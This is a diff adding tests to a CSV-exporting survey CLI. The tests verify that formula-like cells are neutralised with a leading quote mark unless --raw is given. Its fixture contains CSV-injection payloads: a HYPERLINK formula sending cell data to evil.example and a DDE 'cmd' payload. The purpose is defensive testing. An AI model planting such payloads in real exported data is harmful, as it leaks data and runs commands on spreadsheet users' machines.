@@ -1,6 +1,7 @@
 // Inputs that once hung, took unbounded memory, or gave a wrong number or message (issue 14,
 // items 8–13, 15–17), run in-process with a fake Io unless only a process shows the fault.
 
+import { parse as parseCsv } from 'csv-parse/sync';
 import { execFileSync } from 'node:child_process';
 import { createWriteStream, mkdtempSync, truncateSync, utimesSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -190,4 +191,51 @@ describe('a file that changes while it is read (item 10)', () => {
     expect(run.exitCode).toBe(2);
     expect(String(run.stderr)).toContain(`${path}: the file changed while it was read`);
   }, 60_000);
+});
+
+describe('CSV output that a spreadsheet would run (item 11)', () => {
+  // Customer comments and group names as an attacker would write them; scores and a numeric group stay numbers.
+  const path = save(
+    'formulas.csv',
+    [
+      'id,channel,score,comment',
+      `1,=HYPERLINK("http://evil.example/?"&A1;"help"),2,"+cmd|'/C calc'!A0"`,
+      '2,@SUM(1+1),3,=1+1',
+      '3,-5,9,-2+3',
+      '4,web,10,fine',
+    ].join('\n') + '\n',
+  );
+  const run = async (...args: string[]): Promise<string[][]> => {
+    const out = await runCli(args, fakeIo());
+    return parseCsv(out.stdout) as string[][];
+  };
+
+  it('list --format csv: text cells get a leading quote mark, numbers stay', async () => {
+    const rows = await run('list', path, '--detractors', '--format', 'csv');
+    expect(rows[1]).toEqual(['1', `'=HYPERLINK("http://evil.example/?"&A1;"help")`, '2', "'+cmd|'/C calc'!A0", 'detractor']);
+    expect(rows[2]).toEqual(['2', "'@SUM(1+1)", '3', "'=1+1", 'detractor']);
+    const all = await run('list', path, '--promoters', '--format', 'csv');
+    // "-5" is a number as a spreadsheet reads it: kept; "-2+3" is a formula: guarded.
+    expect(all[1]).toEqual(['4', 'web', '10', 'fine', 'promoter']);
+    expect(all[2]).toEqual(['3', '-5', '9', "'-2+3", 'promoter']);
+  });
+
+  it('score --by --format csv: group names guarded, the numbers (NPS -100) as they are', async () => {
+    const rows = await run('score', path, '--by', 'channel', '--format', 'csv');
+    const keys = rows.slice(2).map((r) => r[0]);
+    expect(keys).toEqual(['-5', `'=HYPERLINK("http://evil.example/?"&A1;"help")`, "'@SUM(1+1)", 'web']);
+    expect(rows[3]?.[8]).toBe('-100'); // nps: the one answer in the group is a detractor
+  });
+
+  it('--raw writes every cell as it is (list, score, drivers; every CSV goes through csvField)', async () => {
+    const listed = await run('list', path, '--detractors', '--format', 'csv', '--raw');
+    expect(listed[1]?.[1]).toBe('=HYPERLINK("http://evil.example/?"&A1;"help")');
+    expect(listed[2]?.[3]).toBe('=1+1');
+    const scored = await run('score', path, '--by', 'channel', '--format', 'csv', '--raw');
+    expect(scored[4]?.[0]).toBe('@SUM(1+1)');
+    const drivers = await run('drivers', path, '--by', 'channel', '--format', 'csv', '--raw');
+    expect(drivers.map((r) => r[1])).toContain('@SUM(1+1)');
+    const guarded = await run('drivers', path, '--by', 'channel', '--format', 'csv');
+    expect(guarded.map((r) => r[1])).toContain("'@SUM(1+1)");
+  });
 });
